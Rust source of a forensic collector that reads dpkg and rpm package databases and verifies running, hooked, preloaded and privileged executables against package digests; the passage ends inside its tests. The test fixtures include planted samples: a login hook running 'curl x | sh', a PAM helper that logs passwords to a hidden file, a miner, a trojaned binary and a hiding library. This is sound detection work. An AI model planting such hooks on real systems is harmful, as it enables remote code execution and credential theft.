//! The `packages` collector and the package database other collectors consult.
//!
//! dpkg: installed packages from `/var/lib/dpkg/status` (copied verbatim), file ownership
//! from `info/*.list`, diversions, and verification of files against `info/*.md5sums` and the
//! conffile digests in `status`. rpm (live hosts with exec allowed): `rpm -qa` for packages,
//! files and digests; an rpm database on an image is recorded as not readable offline.
//!
//! Verification is targeted by default: every executable referenced by a running process, a
//! unit's `Exec*=` lines or a cron entry, every system-wide hook file (from the `hooks`
//! collector: boot and login hooks, apt/yum/dnf hooks, PAM service files and the PAM modules
//! they load, polkit rules, and the programs those hooks run: autostart `Exec=`, udev `RUN`,
//! apt hook commands, `pam_exec`), every library named by absolute path in `/etc/ld.so.preload`
//! (from the `kernel` collector) or in a unit's `LD_PRELOAD`, and every setuid, setgid or
//! capability-carrying file (from the `privileged` collector), is hashed and compared with the
//! package database.
//! `verify = "full"` checks every file of every package as well as everything referenced;
//! `verify = "none"` skips it.

use crate::util::{ByteSize, canonicalize, command_program, name_text, ptext, usr_aliases};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::encoding::{bytes_to_text, hex};
use dossier_plugin_api::host::{ExecLimits, FileKind};
use dossier_plugin_api::records::{
    CronEntry, CronScript, Diversion, PackageFiles, PackageRecord, PackageVerify, ProcessRecord,
    Record, SourceRef, UnitRecord,
};
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo};
use md5::Md5;
use serde::Deserialize;
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, HashMap};
use std::io::Read;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

const DPKG_DIR: &str = "/var/lib/dpkg";
const STATUS_CAP: u64 = 256 << 20;
const LIST_CAP: u64 = 64 << 20;

/// The `packages` collector.
pub struct PackagesCollector;

/// How much to verify.
#[derive(Deserialize, Clone, Copy, Debug, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum VerifyMode {
    None,
    Referenced,
    Full,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    #[serde(default = "default_verify")]
    verify: VerifyMode,
    /// Files larger than this are not hashed for verification.
    #[serde(default = "default_verify_cap")]
    max_verify_size: ByteSize,
    /// Also copy every dpkg `info/*.list` verbatim into the bundle.
    #[serde(default)]
    copy_lists: bool,
    /// Copy referenced files that no package owns, or whose digest differs from the package
    /// database, into the bundle (for offline analysis of their content).
    #[serde(default = "yes")]
    copy_suspect: bool,
    /// Suspect files larger than this are hashed but not copied.
    #[serde(default = "default_copy_cap")]
    max_copy_size: ByteSize,
}

fn yes() -> bool {
    true
}
fn default_copy_cap() -> ByteSize {
    ByteSize(64 << 20)
}

fn default_verify() -> VerifyMode {
    VerifyMode::Referenced
}
fn default_verify_cap() -> ByteSize {
    ByteSize(1 << 30)
}

/// A package's `md5sums` (path → digest) and where it was read from.
type Md5Sums = (HashMap<String, String>, SourceRef);

/// What the host's package manager knows, parsed once per host.
#[derive(Debug, Default)]
pub struct PackageDb {
    /// `dpkg` or `rpm`; `None` when no database was found.
    pub manager: Option<String>,
    pub packages: Vec<PackageRecord>,
    /// Every package's file list, and which packages own a path.
    pub files: FileLists,
    pub diversions: Vec<Diversion>,
    /// dpkg: package → base name of its info files (`libc6:amd64`).
    info_base: HashMap<String, String>,
    /// Conffile digests from dpkg status: path → (package, md5).
    conffiles: HashMap<String, (String, String)>,
    /// rpm: path → (algorithm, digest).
    rpm_digests: HashMap<String, (String, String)>,
    /// Why there is no database, when there is none.
    pub unavailable: Option<String>,
}

impl PackageDb {
    /// Loads the database once per host (shared through the context cache).
    pub fn load(ctx: &mut CollectContext<'_>) -> Arc<PackageDb> {
        if let Some(db) = ctx.cached::<PackageDb>() {
            return db;
        }
        let db = Arc::new(load_db(ctx, false));
        ctx.set_cached(db.clone());
        db
    }

    /// Packages owning `path` (also under its merged-/usr alias). Empty when none.
    pub fn owners_of(&self, path: &str) -> Vec<String> {
        let mut v: Vec<String> = std::iter::once(path.to_string())
            .chain(usr_aliases(path))
            .flat_map(|p| self.files.owners(&p))
            .map(str::to_string)
            .collect();
        v.sort();
        v.dedup();
        v
    }

    /// `Some(true/false)` when a database exists, `None` when ownership cannot be known.
    pub fn is_owned(&self, path: &str) -> Option<bool> {
        self.manager.as_ref()?;
        Some(!self.owners_of(path).is_empty())
    }
}

/// Every package's file list, held compactly: a fleet sweep keeps one database per host being
/// collected, and a Debian host lists some 100,000 paths. The paths are one text (each
/// followed by a newline) and a sorted index of (offset, length, list) answers "who owns this
/// path" by binary search; no per-path allocation.
#[derive(Debug, Default)]
pub struct FileLists {
    text: String,
    /// (manager, package, where the list was read from, range of `text`).
    lists: Vec<(String, String, SourceRef, std::ops::Range<usize>)>,
    /// (offset, length, list) of every path, sorted by path.
    index: Vec<(usize, u32, u32)>,
}

impl FileLists {
    /// Adds one package's list.
    pub fn add<S: AsRef<str>>(
        &mut self,
        manager: &str,
        package: String,
        files: impl IntoIterator<Item = S>,
        source: SourceRef,
    ) {
        let start = self.text.len();
        let list = self.lists.len() as u32;
        for f in files {
            let f = f.as_ref();
            self.index
                .push((self.text.len(), f.len().min(u32::MAX as usize) as u32, list));
            self.text.push_str(f);
            self.text.push('\n');
        }
        self.lists
            .push((manager.to_string(), package, source, start..self.text.len()));
    }

    /// Sorts the index; call once every list is added.
    pub fn finish(&mut self) {
        let text = &self.text;
        self.index.sort_unstable_by(|a, b| {
            text[a.0..a.0 + a.1 as usize].cmp(&text[b.0..b.0 + b.1 as usize])
        });
        self.text.shrink_to_fit();
        self.index.shrink_to_fit();
    }

    fn path(&self, e: &(usize, u32, u32)) -> &str {
        &self.text[e.0..e.0 + e.1 as usize]
    }

    /// Names of the packages whose lists hold exactly `path`.
    pub fn owners(&self, path: &str) -> Vec<&str> {
        let from = self.index.partition_point(|e| self.path(e) < path);
        self.index[from..]
            .iter()
            .take_while(|e| self.path(e) == path)
            .map(|e| self.lists[e.2 as usize].1.as_str())
            .collect()
    }

    /// Number of packages with a list.
    pub fn len(&self) -> usize {
        self.lists.len()
    }

    /// No list at all.
    pub fn is_empty(&self) -> bool {
        self.lists.is_empty()
    }

    /// The lists as records, one at a time.
    pub fn records(&self) -> impl Iterator<Item = PackageFiles> + '_ {
        self.lists
            .iter()
            .map(|(manager, package, source, range)| PackageFiles {
                manager: manager.clone(),
                package: package.clone(),
                files: self.text[range.clone()]
                    .lines()
                    .map(str::to_string)
                    .collect(),
                source: source.clone(),
            })
    }

    /// Every listed path (a path listed by several packages once per list).
    pub fn paths(&self) -> impl Iterator<Item = &str> + '_ {
        self.index.iter().map(|e| self.path(e))
    }
}

fn load_db(ctx: &mut CollectContext<'_>, copy_lists: bool) -> PackageDb {
    let host = ctx.host();
    let status_path = Path::new(DPKG_DIR).join("status");
    if host.lstat(&status_path).is_ok() {
        return load_dpkg(ctx, copy_lists);
    }
    let rpm_db = ["/var/lib/rpm", "/usr/lib/sysimage/rpm"]
        .into_iter()
        .find(|p| {
            host.stat(Path::new(p))
                .is_ok_and(|m| m.kind == FileKind::Dir)
        });
    if let Some(dbdir) = rpm_db {
        return load_rpm(ctx, dbdir);
    }
    PackageDb {
        unavailable: Some("no dpkg or rpm database found".into()),
        ..Default::default()
    }
}

fn load_dpkg(ctx: &mut CollectContext<'_>, copy_lists: bool) -> PackageDb {
    let mut db = PackageDb {
        manager: Some("dpkg".into()),
        ..Default::default()
    };
    let status_path = Path::new(DPKG_DIR).join("status");
    let Some(c) = ctx.capture(&status_path, STATUS_CAP) else {
        db.manager = None;
        db.unavailable = Some("dpkg status could not be read".into());
        return db;
    };
    let status_src = c.source_ref(&status_path);
    for p in parse_dpkg_status(&c.data) {
        let name = p.get("Package").cloned().unwrap_or_default();
        if name.is_empty() {
            continue;
        }
        if let Some(cf) = p.get("Conffiles") {
            for line in cf.lines() {
                let f: Vec<&str> = line.split_whitespace().collect();
                if f.len() >= 2 && f[0].starts_with('/') && f[1].len() == 32 {
                    db.conffiles
                        .insert(f[0].to_string(), (name.clone(), f[1].to_string()));
                }
            }
        }
        db.packages.push(PackageRecord {
            manager: "dpkg".into(),
            name,
            version: p.get("Version").cloned().unwrap_or_default(),
            arch: p.get("Architecture").cloned(),
            status: p.get("Status").cloned(),
            source_package: p.get("Source").cloned(),
            source: status_src.clone(),
        });
    }
    let info = Path::new(DPKG_DIR).join("info");
    let entries = ctx.list_dir(&info).unwrap_or_default();
    for e in entries {
        let fname = name_text(&e.name);
        let Some(base) = fname.strip_suffix(".list") else {
            continue;
        };
        let pkg = base.split(':').next().unwrap_or(base).to_string();
        let path = info.join(&e.name);
        let (data, source) = if copy_lists {
            match ctx.capture(&path, LIST_CAP) {
                Some(c) => {
                    let s = c.source_ref(&path);
                    (c.data, s)
                }
                None => continue,
            }
        } else {
            match ctx.host().read(&path, LIST_CAP) {
                Ok(r) => {
                    let sha = hex(&Sha256::digest(&r.data));
                    (
                        r.data,
                        SourceRef {
                            path: ptext(&path),
                            member: None,
                            sha256: Some(sha),
                        },
                    )
                }
                Err(err) => {
                    ctx.host_error(&err);
                    continue;
                }
            }
        };
        let files = data
            .split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
            .map(bytes_to_text);
        db.info_base.insert(pkg.clone(), base.to_string());
        db.files.add("dpkg", pkg, files, source);
    }
    db.files.finish();
    let div = Path::new(DPKG_DIR).join("diversions");
    if let Some(c) = ctx.capture(&div, LIST_CAP) {
        let src = c.source_ref(&div);
        let text = bytes_to_text(&c.data).replace("%0A", "\n");
        let lines: Vec<&str> = text.lines().collect();
        for t in lines.chunks(3) {
            if let [path, to, pkg] = t {
                db.diversions.push(Diversion {
                    path: path.to_string(),
                    diverted_to: to.to_string(),
                    package: pkg.to_string(),
                    source: src.clone(),
                });
            }
        }
    }
    db
}

/// Parses dpkg's `status` (RFC 822-style paragraphs; continuation lines start with a blank).
/// Multi-line fields keep their continuation lines, without the leading blank.
pub fn parse_dpkg_status(data: &[u8]) -> Vec<BTreeMap<String, String>> {
    let text = String::from_utf8_lossy(data);
    let mut out = Vec::new();
    let mut cur: BTreeMap<String, String> = BTreeMap::new();
    let mut last_key: Option<String> = None;
    for line in text.lines() {
        if line.trim().is_empty() {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            last_key = None;
            continue;
        }
        if line.starts_with(' ') || line.starts_with('\t') {
            if let Some(k) = &last_key {
                let v = cur.entry(k.clone()).or_default();
                if !v.is_empty() {
                    v.push('\n');
                }
                v.push_str(line.trim());
            }
            continue;
        }
        if let Some((k, v)) = line.split_once(':') {
            cur.insert(k.trim().to_string(), v.trim().to_string());
            last_key = Some(k.trim().to_string());
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn load_rpm(ctx: &mut CollectContext<'_>, dbdir: &str) -> PackageDb {
    let mut db = PackageDb::default();
    let info = ctx.host().info();
    if !info.live || !info.can_exec {
        let why =
            format!("rpm database at {dbdir} cannot be read without running rpm on a live host");
        ctx.not_available(dbdir, &why);
        db.unavailable = Some(why);
        return db;
    }
    let Some(rpm) = ["/usr/bin/rpm", "/bin/rpm"].into_iter().find(|p| {
        ctx.host()
            .stat(Path::new(p))
            .is_ok_and(|m| m.kind == FileKind::File)
    }) else {
        db.unavailable = Some("rpm database present but no rpm program".into());
        ctx.not_available(dbdir, "rpm database present but no rpm program");
        return db;
    };
    let limits = ExecLimits {
        max_output: 512 << 20,
        timeout: Duration::from_secs(120),
    };
    let pkgs_q = [
        rpm,
        "-qa",
        "--qf",
        "%{NAME}\\t%{EPOCHNUM}:%{VERSION}-%{RELEASE}\\t%{ARCH}\\n",
    ];
    let files_q = [
        rpm,
        "-qa",
        "--qf",
        "[%{=NAME}\\t%{=FILEDIGESTALGO}\\t%{FILEDIGESTS}\\t%{FILENAMES}\\n]",
    ];
    let run = |ctx: &mut CollectContext<'_>, argv: &[&str]| -> Option<(Vec<u8>, SourceRef)> {
        match ctx.host().exec(argv, &limits) {
            Ok(out) if out.status == Some(0) => {
                let subject = format!("exec:{}", argv.join(" "));
                let source = dossier_plugin_api::collect::RawSource {
                    path: subject.clone(),
                    meta: None,
                    meta_after: None,
                    truncated: out.truncated,
                    changed_during_read: false,
                };
                let out_data = out.stdout;
                let r = ctx_store(ctx, &source, &out_data);
                Some((
                    out_data,
                    SourceRef {
                        path: subject,
                        member: r.as_ref().map(|m| m.name.clone()),
                        sha256: r.map(|m| m.sha256),
                    },
                ))
            }
            Ok(out) => {
                ctx.issue(
                    "rpm",
                    IssueKind::Incomplete,
                    format!("`{}` exited with {:?}", argv.join(" "), out.status),
                );
                None
            }
            Err(e) => {
                ctx.host_error(&e);
                None
            }
        }
    };
    let Some((pk, src)) = run(ctx, &pkgs_q) else {
        db.unavailable = Some("rpm -qa failed".into());
        return db;
    };
    db.manager = Some("rpm".into());
    for line in String::from_utf8_lossy(&pk).lines() {
        let f: Vec<&str> = line.split('\t').collect();
        if f.len() == 3 {
            db.packages.push(PackageRecord {
                manager: "rpm".into(),
                name: f[0].into(),
                version: f[1].trim_start_matches("0:").into(),
                arch: Some(f[2].into()),
                status: None,
                source_package: None,
                source: src.clone(),
            });
        }
    }
    if let Some((fl, src)) = run(ctx, &files_q) {
        let mut per_pkg: BTreeMap<String, Vec<String>> = BTreeMap::new();
        for line in String::from_utf8_lossy(&fl).lines() {
            let f: Vec<&str> = line.splitn(4, '\t').collect();
            if f.len() != 4 {
                continue;
            }
            let algo = match f[1] {
                "1" => "md5",
                "2" => "sha1",
                "8" => "sha256",
                "9" => "sha384",
                "10" => "sha512",
                other => other,
            };
            if !f[2].is_empty() {
                db.rpm_digests
                    .insert(f[3].to_string(), (algo.to_string(), f[2].to_string()));
            }
            per_pkg
                .entry(f[0].to_string())
                .or_default()
                .push(f[3].to_string());
        }
        for (package, files) in per_pkg {
            db.files.add("rpm", package, files, src.clone());
        }
        db.files.finish();
    }
    db
}

fn ctx_store(
    ctx: &mut CollectContext<'_>,
    source: &dossier_plugin_api::collect::RawSource,
    data: &[u8],
) -> Option<dossier_plugin_api::collect::MemberRef> {
    let out = dossier_plugin_api::host::ReadOutcome {
        data: data.to_vec(),
        truncated: source.truncated,
        meta: empty_meta(data.len() as u64),
        changed_during_read: false,
        meta_after: None,
    };
    ctx.store_read(Path::new(&source.path), out)
        .map(|c| c.member)
}

fn empty_meta(size: u64) -> dossier_plugin_api::FileMeta {
    dossier_plugin_api::FileMeta {
        kind: FileKind::File,
        mode: 0o600,
        uid: 0,
        gid: 0,
        size,
        nlink: None,
        mtime: None,
        ctime: None,
        atime: None,
        dev: None,
        inode: None,
    }
}

impl Collector for PackagesCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "packages".into(),
            version: crate::VERSION.into(),
            description: "Installed packages (dpkg, rpm), file ownership, diversions, and verification of referenced executables against package digests".into(),
            after: vec![
                "proc".into(),
                "systemd".into(),
                "cron".into(),
                "hooks".into(),
                "kernel".into(),
                "privileged".into(),
            ],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        crate::util::validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cfg: Config = ctx.config()?;
        let db = match ctx.cached::<PackageDb>() {
            Some(db) if !cfg.copy_lists => db,
            _ => {
                let db = Arc::new(load_db(ctx, cfg.copy_lists));
                ctx.set_cached(db.clone());
                db
            }
        };
        if let Some(why) = &db.unavailable {
            ctx.not_available("package database", why);
        }
        for p in &db.packages {
            ctx.emit(&Record::Package(p.clone()))?;
        }
        for f in db.files.records() {
            ctx.emit(&Record::PackageFiles(f))?;
        }
        for d in &db.diversions {
            ctx.emit(&Record::Diversion(d.clone()))?;
        }
        if db.manager.is_none() || cfg.verify == VerifyMode::None {
            return Ok(());
        }
        // Full verification is a superset of the referenced one: every file of every package,
        // plus what processes, units and cron entries run (owned or not).
        let mut targets = referenced_executables(ctx);
        if cfg.verify == VerifyMode::Full {
            for p in db.files.paths() {
                targets
                    .entry(p.to_string())
                    .or_insert_with(|| vec!["full".to_string()]);
            }
        }
        let mut md5_cache: HashMap<String, Option<Md5Sums>> = HashMap::new();
        for (path, refs) in targets {
            // Only a package-list entry nothing runs may be a directory or link to skip.
            let full = refs.len() == 1 && refs[0] == "full";
            if ctx.host_lost().is_some() {
                ctx.issue(
                    "package verification",
                    IssueKind::Incomplete,
                    "host lost; verification stopped",
                );
                break;
            }
            if let Some(mut v) = verify_path(
                ctx,
                &db,
                &path,
                refs,
                cfg.max_verify_size.0,
                &mut md5_cache,
                full,
            ) {
                if cfg.copy_suspect && matches!(v.status.as_str(), "not_owned" | "mismatch") {
                    v.copy = copy_suspect(ctx, &v, cfg.max_copy_size.0);
                }
                ctx.emit(&Record::PackageVerify(v))?;
            }
        }
        Ok(())
    }
}

/// Copies a suspect file (following a symlinked command to its target) when it is a regular
/// file within the cap; larger files keep only their hash, noted as an issue.
fn copy_suspect(ctx: &mut CollectContext<'_>, v: &PackageVerify, cap: u64) -> Option<SourceRef> {
    let path = dossier_plugin_api::encoding::text_to_path(&v.path);
    let real = canonicalize(ctx.host(), &path).unwrap_or(path);
    let meta = ctx.host().stat(&real).ok()?;
    if meta.kind != FileKind::File {
        return None;
    }
    if meta.size > cap {
        ctx.issue(
            ptext(&real),
            IssueKind::NotCopied,
            format!(
                "{} bytes, over the {cap}-byte copy cap: hashed, not copied",
                meta.size
            ),
        );
        return None;
    }
    let c = ctx.copy(&real, cap)?;
    Some(SourceRef {
        path: c.source.path,
        member: Some(c.member.name),
        sha256: Some(c.member.sha256),
    })
}

/// Executables named by processes, units and cron entries of this host, with why.
fn referenced_executables(ctx: &CollectContext<'_>) -> BTreeMap<String, Vec<String>> {
    let mut out: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let strip = |v: &serde_json::Value| {
        let mut v = v.clone();
        if let Some(o) = v.as_object_mut() {
            o.remove("kind");
        }
        v
    };
    for v in ctx.prior("proc") {
        if let Ok(p) = serde_json::from_value::<ProcessRecord>(strip(v)) {
            if p.collector_self {
                continue; // dossier itself
            }
            if let (Some(exe), false) = (p.exe, p.exe_deleted) {
                out.entry(exe)
                    .or_default()
                    .push(format!("process {}", p.pid));
            }
        }
    }
    for v in ctx.prior("systemd") {
        if v["kind"] != "unit" {
            continue;
        }
        if let Ok(u) = serde_json::from_value::<UnitRecord>(strip(v)) {
            for cmd in u
                .exec_start
                .iter()
                .chain(&u.exec_start_pre)
                .chain(&u.exec_start_post)
                .chain(&u.exec_stop)
                .chain(&u.exec_reload)
            {
                let cmd = cmd.trim_start_matches(['@', '-', ':', '+', '!']);
                if let Some(p) = command_program(cmd) {
                    out.entry(p).or_default().push(format!("unit {}", u.name));
                }
            }
            // Libraries a unit preloads (Environment=, EnvironmentFile=).
            let env = u
                .properties
                .get("Service.Environment")
                .into_iter()
                .flatten();
            for assignment in env
                .flat_map(|v| v.split_whitespace())
                .chain(u.env_file_ld.iter().map(String::as_str))
            {
                let a = assignment.trim_matches('"');
                if let Some(libs) = a.strip_prefix("LD_PRELOAD=") {
                    for lib in libs
                        .split([':', ' '])
                        .filter(|l| l.starts_with('/') && !l.contains('$'))
                    {
                        out.entry(lib.to_string())
                            .or_default()
                            .push(format!("LD_PRELOAD of unit {}", u.name));
                    }
                }
            }
        }
    }
    for v in ctx.prior("cron") {
        if v["kind"] == "cron_entry" {
            if let Ok(e) = serde_json::from_value::<CronEntry>(strip(v)) {
                if let Some(p) = command_program(&e.command) {
                    out.entry(p)
                        .or_default()
                        .push(format!("cron {}:{}", e.source.path, e.line));
                }
            }
        } else if v["kind"] == "cron_script" {
            if let Ok(s) = serde_json::from_value::<CronScript>(strip(v)) {
                out.entry(s.path.clone())
                    .or_default()
                    .push(format!("cron.{}", s.period));
            }
        }
    }
    // System-wide boot and login hooks (files in home directories belong to no package).
    for v in ctx.prior("hooks") {
        if v["kind"] == "hook" && v.get("owner").is_none() {
            if let (Some(path), Some(class)) = (v["path"].as_str(), v["class"].as_str()) {
                // An rc link is verified through the init script it points at; a PAM module
                // found in no module directory is recorded by name only.
                if (class != "rc-link" || v.get("link_target").is_none()) && path.starts_with('/') {
                    out.entry(path.to_string())
                        .or_default()
                        .push(format!("hook {class}"));
                }
                // The programs the hook runs (autostart Exec=, udev RUN, apt hook commands,
                // pam_exec): the payload of a planted hook is often a separate file.
                for cmd in v["commands"].as_array().into_iter().flatten() {
                    if let Some(p) = cmd.as_str().and_then(command_program) {
                        out.entry(p)
                            .or_default()
                            .push(format!("{class} hook {path}"));
                    }
                }
            }
        }
    }
    // Files that run with privileges (setuid, setgid, capabilities): an unowned one or a
    // packaged one whose content changed is the finding.
    for v in ctx.prior("privileged") {
        if v["kind"] == "privileged_file" {
            if let Some(path) = v["path"].as_str() {
                let why = if v["setuid"] == true {
                    "setuid file"
                } else if v["setgid"] == true {
                    "setgid file"
                } else {
                    "file capabilities"
                };
                out.entry(path.to_string())
                    .or_default()
                    .push(why.to_string());
            }
        }
    }
    // Libraries the loader injects into every program (names without a path, or with `$LIB`,
    // are resolved by the loader's search and cannot be pinned to one file here).
    for v in ctx.prior("kernel") {
        if v["kind"] == "ld_preload" {
            for e in v["entries"].as_array().into_iter().flatten() {
                if let Some(e) = e
                    .as_str()
                    .filter(|e| e.starts_with('/') && !e.contains('$'))
                {
                    out.entry(e.to_string())
                        .or_default()
                        .push("ld.so.preload".to_string());
                }
            }
        }
    }
    for refs in out.values_mut() {
        refs.sort();
        refs.dedup();
    }
    out
}

type Md5Cache = HashMap<String, Option<(HashMap<String, String>, SourceRef)>>;

fn verify_path(
    ctx: &mut CollectContext<'_>,
    db: &PackageDb,
    path: &str,
    refs: Vec<String>,
    cap: u64,
    md5_cache: &mut Md5Cache,
    full: bool,
) -> Option<PackageVerify> {
    let mut v = PackageVerify {
        path: path.to_string(),
        referenced_by: refs,
        ..Default::default()
    };
    let host = ctx.host();
    let p = dossier_plugin_api::encoding::text_to_path(path);
    let meta = match host.lstat(&p) {
        Ok(m) => m,
        Err(e) if e.is_not_found() => {
            v.status = "missing".into();
            v.package = db.owners_of(path).into_iter().next();
            return Some(v);
        }
        Err(e) => {
            v.status = "unreadable".into();
            v.detail = Some(e.to_string());
            return Some(v);
        }
    };
    if full && meta.kind != FileKind::File {
        return None; // directories and links in a package's file list have no digest
    }
    // Follow a symlinked command to the file it runs; package digests are for that file.
    let (check_path, via) = if meta.kind == FileKind::Symlink {
        match canonicalize(host, &p) {
            Some(real) => (
                ptext(&real),
                Some(format!("via symlink to {}", ptext(&real))),
            ),
            None => {
                v.status = "missing".into();
                v.detail = Some("dangling symlink".into());
                return Some(v);
            }
        }
    } else {
        (path.to_string(), None)
    };
    let owners = db.owners_of(&check_path);
    v.package = owners
        .first()
        .cloned()
        .or_else(|| db.owners_of(path).into_iter().next());
    v.detail = via;
    if owners.is_empty() {
        v.status = "not_owned".into();
        if let Ok(h) = host.hash_file(
            Path::new(&dossier_plugin_api::encoding::text_to_path(&check_path)),
            cap,
        ) {
            v.sha256 = Some(h.sha256);
        }
        return Some(v);
    }
    let expected = expected_digest(ctx, db, &check_path, &owners, md5_cache);
    let Some((algo, digest, source)) = expected else {
        v.status = "no_digest".into();
        return Some(v);
    };
    v.algorithm = Some(algo.clone());
    v.expected = Some(digest.clone());
    v.digest_source = source;
    match hash_two(
        ctx,
        &dossier_plugin_api::encoding::text_to_path(&check_path),
        &algo,
        cap,
    ) {
        Ok((actual, sha)) => {
            v.status = if actual.eq_ignore_ascii_case(&digest) {
                "ok"
            } else {
                "mismatch"
            }
            .into();
            v.actual = Some(actual);
            v.sha256 = Some(sha);
        }
        Err(e) => {
            v.status = "unreadable".into();
            v.detail = Some(e);
        }
    }
    Some(v)
}

fn expected_digest(
    ctx: &mut CollectContext<'_>,
    db: &PackageDb,
    path: &str,
    owners: &[String],
    cache: &mut Md5Cache,
) -> Option<(String, String, Option<SourceRef>)> {
    if let Some((algo, d)) = std::iter::once(path.to_string())
        .chain(usr_aliases(path))
        .find_map(|p| db.rpm_digests.get(&p))
    {
        return Some((algo.clone(), d.clone(), None));
    }
    if let Some((_, md5)) = std::iter::once(path.to_string())
        .chain(usr_aliases(path))
        .find_map(|p| db.conffiles.get(&p))
    {
        return Some((
            "md5".into(),
            md5.clone(),
            Some(SourceRef::path_only("/var/lib/dpkg/status")),
        ));
    }
    for pkg in owners {
        let base = db
            .info_base
            .get(pkg)
            .cloned()
            .unwrap_or_else(|| pkg.clone());
        let entry = cache.entry(base.clone()).or_insert_with(|| {
            let mpath = Path::new(DPKG_DIR)
                .join("info")
                .join(format!("{base}.md5sums"));
            let c = ctx.capture(&mpath, LIST_CAP)?;
            let src = c.source_ref(&mpath);
            let mut m = HashMap::new();
            for line in c.data.split(|b| *b == b'\n') {
                let Some(sp) = line.iter().position(|b| *b == b' ') else {
                    continue;
                };
                let digest = String::from_utf8_lossy(&line[..sp]).to_string();
                let rel = bytes_to_text(line[sp..].strip_prefix(b"  ").unwrap_or(&line[sp + 1..]));
                m.insert(format!("/{}", rel.trim_start_matches('/')), digest);
            }
            Some((m, src))
        });
        if let Some((m, src)) = entry {
            if let Some(d) = std::iter::once(path.to_string())
                .chain(usr_aliases(path))
                .find_map(|p| m.get(&p))
            {
                return Some(("md5".into(), d.clone(), Some(src.clone())));
            }
        }
    }
    None
}

/// Hashes a file with the package digest algorithm and SHA-256 in one read.
fn hash_two(
    ctx: &CollectContext<'_>,
    path: &Path,
    algo: &str,
    cap: u64,
) -> Result<(String, String), String> {
    let mut f = ctx.host().open(path).map_err(|e| e.to_string())?;
    if f.meta().size > cap {
        return Err(format!(
            "larger than the verification cap ({} > {cap} bytes)",
            f.meta().size
        ));
    }
    if algo != "md5" && algo != "sha256" {
        return Err(format!("digest algorithm {algo} not supported"));
    }
    let mut sha = Sha256::new();
    let mut md5 = Md5::new();
    let mut buf = vec![0u8; 256 << 10];
    loop {
        let n = f.read(&mut buf).map_err(|e| e.to_string())?;
        if n == 0 {
            break;
        }
        sha.update(&buf[..n]);
        if algo == "md5" {
            md5.update(&buf[..n]);
        }
    }
    let sha = hex(&sha.finalize());
    let actual = if algo == "md5" {
        hex(&md5.finalize())
    } else {
        sha.clone()
    };
    Ok((actual, sha))
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::PriorRecords;
    use dossier_plugin_api::testing::{MemHost, run_collector};

    fn md5hex(d: &[u8]) -> String {
        hex(&Md5::digest(d))
    }

    fn host() -> MemHost {
        let cron_bin = b"\x7fELF cron binary";
        let status = format!(
            "Package: cron\nStatus: install ok installed\nVersion: 3.0pl1-162\nArchitecture: amd64\nConffiles:\n /etc/init.d/cron {}\n\nPackage: coreutils\nStatus: install ok installed\nVersion: 9.1-1\nArchitecture: amd64\nDescription: GNU core utilities\n multi-line\n description\n\n",
            md5hex(b"#!/bin/sh\n")
        );
        MemHost::new(true)
            .link("/bin", "usr/bin")
            .file("/var/lib/dpkg/status", status)
            .file(
                "/var/lib/dpkg/info/cron.list",
                "/.\n/usr\n/usr/sbin\n/usr/sbin/cron\n/etc/init.d/cron\n",
            )
            .file(
                "/var/lib/dpkg/info/cron.md5sums",
                format!("{}  usr/sbin/cron\n", md5hex(cron_bin)),
            )
            .file(
                "/var/lib/dpkg/info/coreutils:amd64.list",
                "/bin/ls\n/usr/bin/sleep\n",
            )
            .file(
                "/var/lib/dpkg/info/coreutils:amd64.md5sums",
                format!(
                    "{}  bin/ls\n{}  usr/bin/sleep\n",
                    md5hex(b"ls"),
                    md5hex(b"sleep")
                ),
            )
            .file(
                "/var/lib/dpkg/diversions",
                "/usr/bin/ls\n/usr/bin/ls.distrib\nevil\n",
            )
            .exe("/usr/sbin/cron", cron_bin)
            .exe("/usr/bin/ls", "ls")
            .exe("/usr/bin/sleep", "trojaned sleep")
            .file("/etc/init.d/cron", "#!/bin/sh\n")
            .exe("/var/log/log", "miner")
            .file("/etc/profile.d/zz-update.sh", "curl x | sh\n")
            .file("/usr/lib/libhide.so", "\x7fELF hide readdir")
            .exe(
                "/usr/lib/openssh/auth-helper",
                "#!/bin/sh\ncat >> /var/backups/.pw\n",
            )
    }

    fn prior() -> PriorRecords {
        let mut p = PriorRecords::new();
        p.insert("proc".into(), vec![
            serde_json::json!({"kind":"process","pid":812,"ppid":1,"state":"S","comm":"log","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/var/log/log"}),
            serde_json::json!({"kind":"process","pid":500,"ppid":1,"state":"S","comm":"cron","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/sbin/cron"}),
            serde_json::json!({"kind":"process","pid":501,"ppid":1,"state":"S","comm":"sleep","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/bin/sleep"}),
        ]);
        p.insert("systemd".into(), vec![serde_json::json!({"kind":"unit","name":"x.service","unit_type":"service","scope":"system","path":"/etc/systemd/system/x.service","source":{"path":"/etc/systemd/system/x.service"},"unit_dir":"/etc/systemd/system","exec_start":["-/bin/ls -l"],"enabled":false})]);
        p.insert("cron".into(), vec![serde_json::json!({"kind":"cron_entry","source":{"path":"/etc/crontab"},"line":2,"format":"system","owner":"root","schedule":"@reboot","run_as":"root","command":"/etc/init.d/cron start"})]);
        p.insert("hooks".into(), vec![
            serde_json::json!({"kind":"hook","path":"/etc/profile.d/zz-update.sh","class":"profile.d","runs_at":"login","active":true}),
            serde_json::json!({"kind":"hook","path":"/etc/rc2.d/S01cron","class":"rc-link","runs_at":"boot","active":true,"link_target":"../init.d/cron"}),
